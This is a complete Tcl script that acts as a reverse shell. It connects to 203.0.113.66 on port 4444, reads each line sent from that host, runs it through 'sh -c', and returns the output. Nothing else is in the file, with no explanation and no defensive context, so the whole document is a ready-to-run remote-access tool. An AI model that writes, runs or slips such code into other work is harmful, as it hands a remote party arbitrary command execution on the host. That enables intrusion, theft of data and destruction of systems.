#!/usr/bin/env tclsh
set s [socket 203.0.113.66 4444]
fconfigure $s -buffering line
while {![eof $s]} {
    gets $s line
    if {$line eq ""} continue
    catch {exec sh -c $line 2>@1} out
    puts $s $out
}
